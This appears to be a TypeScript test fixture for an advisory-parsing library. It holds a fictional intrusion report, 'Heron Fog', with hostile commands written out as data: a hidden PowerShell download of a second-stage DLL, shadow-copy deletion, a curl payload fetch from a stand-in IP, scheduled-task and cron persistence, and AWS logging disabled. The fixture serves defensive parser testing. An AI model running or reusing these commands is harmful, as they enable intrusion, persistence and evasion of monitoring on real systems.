import { type AdvisoryDocument, read } from '@tripline/advisory';

/** Reads a text as a plain-text advisory. */
export function textAdvisory(text: string, url?: string): Promise<AdvisoryDocument> {
  return read(new TextEncoder().encode(text), { contentType: 'text/plain', ...(url === undefined ? {} : { url }) });
}

/** Reads a text as Markdown. */
export function markdownAdvisory(text: string, url?: string): Promise<AdvisoryDocument> {
  return read(new TextEncoder().encode(text), { contentType: 'text/markdown', ...(url === undefined ? {} : { url }) });
}

/** An intrusion, written for these tests, that touches five platforms. */
export const HERON_FOG = `# Heron Fog moves from a web server to the cloud

On the first host the operators of Heron Fog ran a short list of commands. They began with whoami /all and continued with
the following command: schtasks.exe /create /sc onlogon /tn "HeronUpdateTask" /tr "C:\\ProgramData\\heron\\fogsvc.exe" /f
After that the loader fogsvc.exe wrote C:\\ProgramData\\heron\\fogcfg.dat and was started at every logon.

\`\`\`
powershell.exe -nop -w hidden -c "Invoke-HeronGrab -Target C:\\Data; (New-Object Net.WebClient).DownloadFile('http://203.0.113.77/x','C:\\ProgramData\\heron\\stage2.dll')"
vssadmin.exe delete shadows /all /quiet
\`\`\`

On a Linux jump host the intruders then used:

\`\`\`
$ curl -fsSL http://198.51.100.9/heron.sh -o /tmp/.heron/install.sh
$ chattr +i /etc/cron.d/heronfog
\`\`\`

With stolen keys they turned to AWS. CloudTrail shows that the AWS access key called GetCallerIdentity and ListUsers, then CreateUser and
CreateAccessKey for a new IAM user, and at last StopLogging on the trail. The actor did not call DeleteTrail.

In the Kubernetes cluster the actor listed Kubernetes secrets and used kubectl exec -it web-0 -- sh to reach other pods.

## Recommendations

Administrators should disable console access and run netsh advfirewall set allprofiles state on everywhere.
`;
